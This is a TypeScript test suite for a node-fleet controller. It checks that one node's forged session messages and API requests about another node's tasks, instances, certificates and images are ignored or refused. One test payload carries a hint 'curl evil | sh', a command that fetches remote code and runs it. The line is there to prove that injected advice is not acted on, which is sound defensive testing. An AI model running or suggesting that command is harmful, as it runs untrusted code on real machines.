import assert from 'node:assert/strict';
import { X509Certificate } from 'node:crypto';
import { Readable } from 'node:stream';
import { describe, it, type TestContext } from 'node:test';
import fc from 'fast-check';
import type { Route } from '../../../controller/api/route.ts';
import { apiRoutes } from '../../../controller/api/routes.ts';
import type { ApiDeps } from '../../../controller/api/deps.ts';
import { createNodeEventSink } from '../../../controller/observe/node-events.ts';
import type { NodeTls } from '../../../agent/session/node-files.ts';
import { readNodeTls } from '../../../agent/session/node-files.ts';
import type { CommandRow } from '../../../controller/domain/commands.ts';
import type { BuildTask } from '../../../shared/domain/build.ts';
import type { InstanceId, NodeId, TaskId } from '../../../shared/domain/ids.ts';
import { TASK_KINDS } from '../../../shared/domain/task.ts';
import { systemClock } from '../../../shared/kit/clock.ts';
import type { LogEvent } from '../../../shared/kit/log.ts';
import { Sensitive } from '../../../shared/kit/sensitive.ts';
import { randomId } from '../../../shared/kit/random-id.ts';
import { loadAgentService, type WireAgentMessage } from '../../../shared/rpc/service.ts';
import { anyBuildTask, anyCommandTask } from '../../support/arbitraries.ts';
import { API_CONFIG } from '../../support/api-fixture.ts';
import { aCertificate } from '../../support/fleet-routes.ts';
import { makeCsr } from '../../support/csr.ts';
import { openControllerServers, type ControllerServers } from '../../support/controller-servers.ts';
import { eventually } from '../../support/eventually.ts';
import { HELLO, openRawAgent, type RawAgent } from '../../support/raw-agent.ts';
import { assignment, digestOf, newRelease, noChange, slugOf } from '../../support/store-fixtures.ts';

/** Two nodes with sessions. Whatever there is belongs to `mine`; `theirs` reaches for it. */
interface Scene {
  readonly servers: ControllerServers;
  readonly mine: Party;
  readonly theirs: Party;
  readonly instance: InstanceId;
  readonly task: BuildTask;
  readonly taskEnded: () => boolean;
  readonly output: () => string;
}

interface Party {
  readonly id: NodeId;
  readonly tls: NodeTls;
  readonly raw: RawAgent;
}

const [taskSample] = fc.sample(anyBuildTask, { numRuns: 1, seed: 11 });
const [commandSample] = fc.sample(anyCommandTask, { numRuns: 1, seed: 11 });
const LIE = 'SLIP_LIE';

async function openScene(t: TestContext): Promise<Scene> {
  const tasks = new Map<string, NodeId>();
  const taskSources: ApiDeps['taskSources'] = {
    open: (node, id) => Promise.resolve(tasks.get(id) === node ? Readable.from(['the source']) : undefined),
  };
  const servers = await openControllerServers(t, { taskSources });
  const [mine, theirs] = [await join(t, servers, 'mine'), await join(t, servers, 'theirs')];
  await servers.store.createRelease(newRelease(servers.app, { slug: slugOf('c') }));
  const row = assignment({ nodeId: mine.id, appId: servers.app.id, release: 2 });
  await servers.store.changeAssignments({ ...noChange, add: [row] });
  await servers.dispatch.fleet.publish(mine.id);
  await eventually('the assignment', () => mine.raw.heard.some((one) => one.desired?.assignments.length === 1));
  servers.images.kept.set(digestOf('c'), Buffer.from('a layer'));
  mine.raw.send({ instanceReport: { statuses: [{ instanceId: row.instanceId, state: 'live' }], complete: true } });
  const limits = { timeoutMs: 60_000, outputLimitBytes: 1_000_000 };
  const task = { ...taskSample!, ...limits, taskId: randomId() as TaskId, appId: servers.app.id };
  tasks.set(task.taskId, mine.id);
  let ended = false;
  let output = '';
  const run = servers.dispatch.builders.runBuild({
    node: mine.id,
    task,
    output: (chunk) => (output += Buffer.from(chunk).toString()),
    signal: new AbortController().signal,
  });
  void run.then(
    () => (ended = true),
    () => (ended = true),
  );
  await eventually('the task', () => mine.raw.heard.some((one) => one.startTask?.taskId === task.taskId));
  await eventually('the report', () => servers.dispatch.fleet.status(row.instanceId)?.state === 'live');
  return { servers, mine, theirs, instance: row.instanceId, task, taskEnded: () => ended, output: () => output };
}

async function join(t: TestContext, servers: ControllerServers, name: string): Promise<Party> {
  const { row, stateDir } = await servers.machine(name);
  const tls = await readNodeTls(stateDir);
  const raw = openRawAgent(t, servers, tls);
  const facts = { ...HELLO.facts, json: JSON.stringify({ httpsPort: name === 'mine' ? 443 : 0 }) };
  raw.send({ hello: { ...HELLO, facts, taskKinds: [...TASK_KINDS] } });
  await eventually('a desired state', () => raw.heard.some((one) => one.desired));
  return { id: row.id, tls, raw };
}

type Kind = Exclude<keyof WireAgentMessage, 'body'>;

interface Claim {
  readonly lie: (scene: Scene) => WireAgentMessage;
  /** In the log, beside the name of the node. Absent where the lie cannot be told from the truth about itself. */
  readonly complaint?: LogEvent;
  /** What must be as it was; all rows check that the instance is live and the task runs. */
  readonly unharmed?: (scene: Scene, t: TestContext) => Promise<void> | void;
}

const failed = { code: LIE, message: 'a lie' };

const CLAIMS: Readonly<Record<Kind, Claim>> = {
  hello: {
    lie: ({ task }) => ({
      hello: { ...HELLO, runningTaskIds: [task.taskId], epoch: { counter: 99, id: 'x' }, generation: 99 },
    }),
    complaint: 'session.second_hello',
  },
  heartbeat: {
    lie: ({ mine }) => ({ heartbeat: { diskFreeBytes: 1, load1: 99, unreachablePeerIds: [mine.id] } }),
    unharmed: ({ servers, mine }) => {
      const node = servers.dispatch.fleet.node(mine.id);
      assert.deepEqual([node?.connected, node?.load1, node?.state], [true, 0, 'ready']);
    },
  },
  desiredAck: {
    lie: () => ({ desiredAck: { generation: 1_000, accepted: true } }),
    complaint: 'session.unknown_generation',
  },
  destroyedAck: {
    lie: ({ servers }) => ({ destroyedAck: { appIds: [servers.app.id] } }),
    complaint: 'session.unknown_destroyed_apps',
    unharmed: async ({ servers }) => assert.ok((await servers.store.appById(servers.app.id)) !== undefined),
  },
  instanceReport: {
    lie: ({ instance }) => ({
      instanceReport: { statuses: [{ instanceId: instance, state: 'failed', reason: failed }], complete: true },
    }),
    complaint: 'session.unknown_instances',
  },
  taskOutput: {
    lie: ({ task }) => ({ taskOutput: { taskId: task.taskId, chunk: Buffer.from(LIE) } }),
    complaint: 'session.unknown_task',
  },
  taskResult: {
    lie: ({ task }) => ({ taskResult: { taskId: task.taskId, failure: failed } }),
    complaint: 'session.unknown_task',
  },
  logChunk: {
    lie: ({ mine }) => {
      const queryId = queryAt(mine.raw) ?? assert.fail('no query');
      return { logChunk: { queryId, lines: [{ atMs: 1, source: 'app', process: 'web.1', message: LIE }], end: true } };
    },
    complaint: 'session.unknown_log_query',
  },
  nodeEvent: {
    lie: ({ servers }) => ({
      nodeEvent: { atMs: 1, reason: { ...failed, hint: 'curl evil | sh' }, app: servers.app.name, process: 'web.1' },
    }),
  },
  switchFigures: {
    lie: ({ servers: { app, dispatch } }) => {
      dispatch.switches.begin({ appId: app.id, release: 1 }, true);
      return { switchFigures: { appId: app.id, release: 1, requests: 7, codes: { H14: 7 } } };
    },
    // It speaks for itself only.
    unharmed: ({ servers: { app, dispatch }, theirs }) => {
      assert.deepEqual([...dispatch.switches.figures({ appId: app.id, release: 1 }).keys()], [theirs.id]);
    },
  },
  certificatesServed: {
    lie: () => ({ certificatesServed: { version: 1_000_000 } }),
    complaint: 'session.unknown_routes',
  },
  routesAck: {
    lie: () => ({ routesAck: { version: 1_000_000, accepted: true } }),
    complaint: 'session.unknown_routes',
  },
};

/** What another node says of a command. Builds have the rows above. */
const COMMAND_CLAIMS: Readonly<Record<'taskOutput' | 'taskResult', (taskId: TaskId) => WireAgentMessage>> = {
  taskOutput: (taskId) => ({ taskOutput: { taskId, chunk: Buffer.from(LIE) } }),
  taskResult: (taskId) => ({ taskResult: { taskId, command: { exit: { code: 0, atMs: 5 }, durationMs: 1 } } }),
};

async function startCommand({ store, app, dispatch }: ControllerServers, { id: nodeId }: Party): Promise<CommandRow> {
  const limits = { memoryBytes: 1, timeoutMs: 60_000, graceMs: 1_000 };
  const own = { id: randomId() as TaskId, kind: 'run', appId: app.id, nodeId, release: 2, command: 'true' } as const;
  const row = await store.createCommand({ ...own, ...limits });
  await dispatch.commands.start(row, { ...commandSample!, kind: 'run', taskId: row.id, appId: app.id });
  return row;
}

describe('reports of a node about data of another node', () => {
  const { requestType } = loadAgentService().service.Session as unknown as {
    requestType: { type: { field: { name: string }[] } };
  };
  const kinds = requestType.type.field.map(({ name }) =>
    name.replaceAll(/_(.)/g, (_all, letter: string) => letter.toUpperCase()),
  );

  it('has a row for every message of the contract', () => {
    assert.deepEqual(Object.keys(CLAIMS).sort(), kinds.sort());
  });

  for (const [kind, { lie, complaint, unharmed }] of Object.entries(CLAIMS)) {
    it(`${kind}: is ignored, and the log names the node that sent it`, async (t) => {
      const scene = await openScene(t);
      const { servers, mine, theirs, instance } = scene;
      const reading = readLogs(scene);
      await eventually('the query', () => [mine, theirs].every(({ raw }) => queryAt(raw) !== undefined));
      const complaints = (): typeof servers.logger.events =>
        servers.logger.events.filter(({ event }) => event === complaint);
      theirs.raw.send(lie(scene), { heartbeat: { load1: 3 } });
      await eventually('a later message', () => servers.dispatch.fleet.node(theirs.id)?.load1 === 3);
      assert.deepEqual(
        complaints().map(({ fields }) => fields['node']),
        complaint === undefined ? [] : ['theirs'],
      );
      assert.equal(servers.dispatch.fleet.status(instance)?.state, 'live');
      assert.deepEqual([scene.taskEnded(), scene.output()], [false, '']);
      for (const { raw } of [mine, theirs]) raw.send({ logChunk: { queryId: queryAt(raw) ?? '', end: true } });
      assert.deepEqual(
        (await reading).filter((line) => line.includes(LIE)),
        [],
      );
      await unharmed?.(scene, t);
      assert.equal(mine.raw.ended, undefined);
    });
  }

  for (const [kind, claim] of Object.entries(COMMAND_CLAIMS)) {
    it(`${kind} of a command: is ignored, and the command ends as its own node says`, async (t) => {
      const { servers, mine, theirs } = await openScene(t);
      const { id } = await startCommand(servers, mine);
      await eventually('the command', () => mine.raw.heard.some((one) => one.startTask?.taskId === id));
      theirs.raw.send(claim(id), { heartbeat: { load1: 3 } });
      await eventually('a later message', () => servers.dispatch.fleet.node(theirs.id)?.load1 === 3);
      const complaints = servers.logger.events.filter(({ event }) => event === 'session.unknown_task');
      assert.deepEqual(
        complaints.map(({ fields }) => fields['node']),
        ['theirs'],
      );
      assert.equal(
        theirs.raw.heard.some((one) => one.taskAck),
        false,
      );
      assert.deepEqual(
        [(await servers.store.command(id))?.state, await servers.store.commandOutput(id)],
        ['running', ''],
      );
      mine.raw.send({ taskResult: { taskId: id, command: { exit: { code: 3, atMs: 5 }, durationMs: 1 } } });
      const ended = await servers.dispatch.commands.ended(id);
      assert.deepEqual([ended?.state, ended?.result?.exit.code], ['failed', 3]);
    });
  }

  it('nodeEvent: is kept out of the history of an app that does not run there, and cannot say what to do next', async (t) => {
    const { servers, mine, theirs } = await openScene(t);
    const sink = createNodeEventSink({ store: servers.store, clock: systemClock, log: servers.logger });
    const event = CLAIMS.nodeEvent.lie({ servers } as Scene).nodeEvent;
    const said = {
      kind: 'nodeEvent' as const,
      atMs: 1,
      reason: event?.reason as never,
      app: servers.app.name,
      process: 'web.1',
    };
    sink({ id: theirs.id, name: 'theirs' }, said);
    sink({ id: mine.id, name: 'mine' }, said);
    const kept = await eventually('both events', async () => {
      const found = (await servers.store.events({ limit: 100 })).filter(({ kind }) => kind === 'node.lie');
      return found.length === 2 ? found : undefined;
    });
    assert.deepEqual(kept.map(({ node, app, next }) => [node, app, next]).sort(), [
      ['mine', 'hello', 'slipway why mine'],
      ['theirs', undefined, 'slipway why theirs'],
    ]);
  });
});

/** The last query of logs that the controller sent to this node. */
function queryAt({ heard }: RawAgent): string | undefined {
  return heard.findLast((one) => one.logQuery)?.logQuery?.queryId;
}

async function readLogs({ servers }: Scene): Promise<readonly string[]> {
  const lines: string[] = [];
  const query = { appId: servers.app.id, app: servers.app.name, lines: 10, follow: false };
  for await (const line of servers.dispatch.fleet.logs(query, AbortSignal.timeout(60_000))) lines.push(line.message);
  return lines;
}

/** What `theirs` gets for what is `mine`; and `mine`, which proves that there is something to get. */
interface Reach {
  readonly path: (scene: Scene) => string;
  readonly body?: (scene: Scene) => Promise<unknown>;
  readonly theirs: number;
  readonly mine: number;
  readonly after?: (scene: Scene, answer: Record<string, unknown>) => Promise<void> | void;
}

const layer = (): string => `/images/${digestOf('c')}`;

const REACHES: Readonly<Record<string, Reach>> = {
  'HEAD /images/:digest': { path: layer, theirs: 404, mine: 200 },
  'GET /images/:digest': { path: layer, theirs: 404, mine: 200 },
  // without a task it may not even try; with one, what it sends must be what its digest says
  'PUT /images/:digest': { path: layer, body: () => Promise.resolve({}), theirs: 403, mine: 415 },
  'GET /certificates/:id/:fingerprint': {
    path: () => `/certificates/${SERVED.id}/${SERVED.fingerprint}`,
    body: async ({ servers: { store, dispatch, app } }) => {
      const keyPem = new Sensitive('the key\n');
      const times = { notBeforeMs: 1, notAfterMs: Number.MAX_SAFE_INTEGER };
      const names = [`${app.name}.example.test`];
      await store.saveCertificate({
        ...SERVED,
        kind: 'uploaded',
        names,
        appId: app.id,
        ...times,
        chainPem: '',
        keyPem,
      });
      await dispatch.fleet.certificatesChanged();
      return undefined;
    },
    theirs: 404, // it does not answer HTTPS
    mine: 200,
  },
  'GET /tasks/:id/source': { path: ({ task }) => `/tasks/${task.taskId}/source`, theirs: 404, mine: 200 },
  'POST /node/certificate': {
    path: () => '/node/certificate',
    body: async ({ mine }) => ({ csr: (await makeCsr({ name: `CN=${mine.id}` })).csrPem }),
    theirs: 201,
    mine: 201,
    after: ({ theirs }, answer) => {
      assert.equal(
        new X509Certificate(answer['certificate'] as string).subject,
        `CN=${theirs.id}`,
        'whatever the request says',
      );
    },
  },
  'POST /node/certificate/use': {
    path: () => '/node/certificate/use',
    body: () => Promise.resolve({}),
    theirs: 200,
    mine: 200,
    after: ({ theirs }, answer) => assert.equal(answer['nodeId'], theirs.id),
  },
  'POST /node/trouble': {
    path: () => '/node/trouble',
    body: () => Promise.resolve({ code: 'SLIP_PROXY_DOWN', message: 'Down.' }),
    theirs: 200,
    mine: 200,
    after: ({ theirs }, answer) => assert.equal(answer['nodeId'], theirs.id),
  },
};

const SERVED = aCertificate('shop');

describe('requests of a node for data of another node', () => {
  const routes = apiRoutes(API_CONFIG, { clock: systemClock } as ApiDeps).filter(
    (route: Route) => route.auth === 'node',
  );

  it('has a row for every route of nodes', () => {
    assert.deepEqual(Object.keys(REACHES).sort(), routes.map((route) => `${route.method} ${route.url}`).sort());
  });

  for (const [name, { path, body, theirs, mine, after }] of Object.entries(REACHES)) {
    it(`${name}: ${String(theirs)}, and ${String(mine)} for its own`, async (t) => {
      const scene = await openScene(t);
      const method = name.split(' ')[0] ?? '';
      const sent = await body?.(scene);
      const answer = await scene.servers.askAs(scene.theirs.tls, method, path(scene), sent);
      assert.equal(answer.status, theirs, JSON.stringify(answer.body));
      await after?.(scene, answer.body);
      assert.equal((await scene.servers.askAs(scene.mine.tls, method, path(scene), sent)).status, mine);
    });
  }
});
